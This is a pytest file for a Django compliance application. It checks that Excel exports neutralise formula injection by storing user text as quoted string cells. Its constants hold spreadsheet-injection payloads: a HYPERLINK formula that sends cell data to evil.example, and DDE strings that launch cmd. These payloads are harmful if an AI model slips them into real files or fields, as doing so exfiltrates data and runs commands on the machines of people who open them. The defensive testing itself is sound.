"""Every Excel export writes user text as text: a name, title or question that looks like a
formula reaches whoever opens the file (a regulator included) as inert text, quoted.

Each test enters the text through the services, downloads the export as its user would, and
opens the file: the cell holds the text behind a quote, as a string cell, and no cell of the
workbook is a formula.
"""

from __future__ import annotations

import datetime
import io

import pytest
import time_machine
from django.test import TestCase
from django.urls import reverse
from openpyxl import load_workbook

from compliance.grading import standards
from compliance.jobs.models import Job
from compliance.training import bank
from compliance.training.models import Question
from tenants import roles, services
from tenants.scope import activate, dangerously_platform_scope

from ..conftest import login
from ..factories import resident_id
from ..grading.grade_helpers import award
from ..training.test_certificates import make_cert

pytestmark = pytest.mark.django_db

# From the issue: a person registered under this name turned the export into a link that
# sends the neighbouring cell to an outside address.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_written_as_text(content: bytes, *texts: str) -> None:
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in texts:
        found = [c for c in cells if isinstance(c.value, str) and text in c.value]
        assert found, f"{text!r} is not in the export"
        for cell in found:
            assert cell.value == "'" + text and cell.data_type == "s", (cell.coordinate, cell.value)


def _person(world, name: str, *, unit=None, seq=900):
    scope = world.a.scope(roles.SAFETY_MANAGER)
    with activate(scope):
        return services.person_create(
            scope=scope,
            org_unit=unit or world.a.team,
            resident_id=resident_id(seq=seq),
            name=name,
            employee_no=f"X-{seq}",
            post_category="other",
            job_title=DDE,
        )


def test_people_export_page_and_api(world):
    _person(world, HYPERLINK)
    admin = world.a.users[roles.TENANT_ADMIN]
    page = login(admin).get("/people/export/")
    assert page.status_code == 200
    assert_written_as_text(page.content, HYPERLINK, DDE)
    api = login(admin).get("/api/v1/people/export/")
    assert api.status_code == 200
    assert_written_as_text(api.content, HYPERLINK, DDE)


def test_training_hours_export_as_the_regulator_downloads_it(world):
    with dangerously_platform_scope() as platform:
        team = services.org_unit_create(scope=platform, parent=world.a.mine, kind="team", name=MINUS)
    _person(world, HYPERLINK, unit=team)
    year = datetime.date.today().year
    for user in (world.regulator_in, world.a.users[roles.SAFETY_MANAGER]):
        response = login(user).get("/training/hours/export/", {"year": year})
        assert response.status_code == 200
        assert_written_as_text(response.content, HYPERLINK, MINUS)
        # The figures stay numbers a regulator can sum.
        header, *rows = load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(values_only=True)
        assert rows and all(isinstance(row[6], int | float) for row in rows)


def test_question_bank_export_and_it_imports_again_unquoted(world):
    manager = world.a.users[roles.SAFETY_MANAGER]
    with activate(world.a.scope(roles.SAFETY_MANAGER)):
        bank.create_question(
            world.a.mine,
            {"type": "single", "stem": DDE, "explanation": AT, "topic": "瓦斯防治", "difficulty": 2},
            [
                {"text": "-0.5%", "is_correct": False},
                {"text": HYPERLINK, "is_correct": True},
            ],
            manager,
        )
    response = login(manager).get("/training/questions/export/")
    assert response.status_code == 200
    assert_written_as_text(response.content, DDE, AT, HYPERLINK, "-0.5%")
    # The quote is the export's, not the text's: the file imports again as the same question.
    file = io.BytesIO(response.content)
    file.name = "export.xlsx"
    admin = login(world.a.users[roles.TENANT_ADMIN])
    with TestCase.captureOnCommitCallbacks(execute=True):
        admin.post("/training/questions/import/", {"org_unit": str(world.a.other_mine.pk), "file": file})
    with dangerously_platform_scope():
        job = Job.objects.get(kind="question_import")
        assert job.status == Job.Status.SUCCEEDED, job.result
        copy = Question.objects.get(org_unit=world.a.other_mine)
        assert (copy.stem, copy.explanation) == (DDE, AT)
        assert [o.text for o in copy.options.order_by("position")] == ["-0.5%", HYPERLINK]


def test_expiring_certificates_export(world):
    with time_machine.travel(datetime.datetime(2026, 3, 1, 9, 0, tzinfo=datetime.UTC), tick=False):
        person = _person(world, HYPERLINK)
        make_cert(person, number=AT, kind="principal", issued_on=datetime.date(2023, 3, 11))
        response = login(world.a.users[roles.HQ_AUDITOR]).get(
            "/training/certificates/expiring/", {"export": "xlsx"}
        )
    assert response.status_code == 200
    assert_written_as_text(response.content, HYPERLINK, AT)
    row = load_workbook(io.BytesIO(response.content)).active[2]
    assert isinstance(row[6].value, datetime.datetime) and row[7].value == 10  # due on, days left


def test_grading_standard_export_and_it_imports_again_unquoted(world):
    scope = world.a.scope(roles.TENANT_ADMIN)
    structure = {
        "code": "a-internal",
        "name": HYPERLINK,
        "method": "percentage",
        "mine_types": ["coal_underground"],
        "versions": [
            {
                "label": "2026",
                "document_no": "集团安〔2026〕1号",
                "effective_from": "2015-01-01",
                "effective_to": None,
                "preconditions": [],
                "recheck_months": 12,
                "notes": "",
                "parts": [
                    {
                        "code": "management",
                        "name": "安全管理",
                        "weight": 1,
                        "items": [(AT, 40, MINUS, True), ("每月隐患排查", 60, "缺1次扣10分")],
                        "no": "1",
                    }
                ],
                "level_rules": [{"level": 1, "min_total": 90}],
            }
        ],
    }
    with activate(scope):
        (version,) = standards.standard_create(scope=scope, data=structure)
        before = standards.version_structure(version)
    client = login(world.a.users[roles.TENANT_ADMIN])
    response = client.get(f"/grading/standards/versions/{version.pk}/export/")
    assert response.status_code == 200
    assert_written_as_text(response.content, HYPERLINK, AT, MINUS)
    # Imported again as a new version label: the same texts, without the export's quote.
    wb = load_workbook(io.BytesIO(response.content))
    for row in wb.worksheets[0].iter_rows(min_row=2):
        if row[1].value == "2026":
            row[1].value = "2027"
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    out.name = "standard.xlsx"
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.post("/grading/standards/import/", {"file": out})
    with dangerously_platform_scope():
        job = Job.objects.get(kind="standard_import")
        assert job.status == Job.Status.SUCCEEDED, job.result
    with activate(scope):
        copy = standards.version_structure(version.standard.versions.get(label="2027"))
    assert copy["name"] == HYPERLINK and copy["versions"][0]["parts"] == before["versions"][0]["parts"]


def test_grade_certificate_export(world):
    with dangerously_platform_scope() as platform:
        mine = services.org_unit_create(
            scope=platform,
            parent=world.a.subsidiary,
            kind="mine",
            name=MINUS,
            mine_profile={"mine_type": "coal_underground", "region_code": "520201"},
        )
    award(mine, level=1, user=world.a.users[roles.HQ_AUDITOR], approved_on=datetime.date(2026, 1, 5))
    response = login(world.a.users[roles.TENANT_ADMIN]).get(
        reverse("grading:certificate-list"), {"export": "xlsx"}
    )
    assert response.status_code == 200
    assert_written_as_text(response.content, MINUS)
    row = load_workbook(io.BytesIO(response.content)).active[2]
    assert isinstance(row[6].value, datetime.datetime)  # the award date stays a date
